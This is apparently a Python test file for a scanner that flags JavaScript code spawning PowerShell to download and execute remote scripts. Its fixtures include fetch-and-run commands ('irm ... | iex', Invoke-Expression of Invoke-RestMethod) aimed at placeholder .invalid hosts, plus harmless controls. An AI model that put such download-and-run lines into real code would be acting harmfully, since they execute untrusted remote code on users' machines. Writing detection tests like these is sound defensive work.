"""JavaScript spawning a PowerShell host with ``-Command`` code: the code is PowerShell, read as the command
line that runs it; a platform choice (``win ? [prog, argv] : [prog, argv]``) keeps the chosen list a list.
Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

HEAD = 'const cp = require("child_process");\nconst os = require("os");\n'


def test_powershell_told_to_run_a_download_runs_it(tmp_path: Path) -> None:
    script = HEAD + 'cp.execFile("pwsh.exe", ["-NoProfile", "-Command", "irm https://warm.invalid/w | iex"]);\n'
    errors = scan_errors(tmp_path, {"scripts/warm.js": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/warm.js", 3) in errors


def test_a_platform_choice_of_command_lists_is_spread_into_the_call(tmp_path: Path) -> None:
    script = HEAD + (
        'const src = "https://warm.invalid/boot";\n'
        'const run = os.platform() !== "win32"\n'
        '  ? ["powershell.exe", ["-c", `Invoke-Expression (Invoke-RestMethod "${src}")`]]\n'
        '  : ["true", []];\n'
        'cp.spawn(run[0], run[1], { stdio: "ignore" });\n'
    )
    errors = scan_errors(tmp_path, {"scripts/warm.js": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/warm.js", 7) in errors


def test_powershell_told_to_print_a_version_is_clean(tmp_path: Path) -> None:
    script = HEAD + (
        'const probe = os.platform() === "win32" ? ["pwsh", ["-c", "$PSVersionTable.PSVersion"]] : ["uname", ["-a"]];\n'
        "cp.spawnSync(probe[0], probe[1]);\n"
        'cp.execFile("powershell", ["-Command", "Get-ChildItem $env:TEMP | Measure-Object"]);\n'
    )
    assert scan_errors(tmp_path, {"scripts/probe.js": script}) == set()
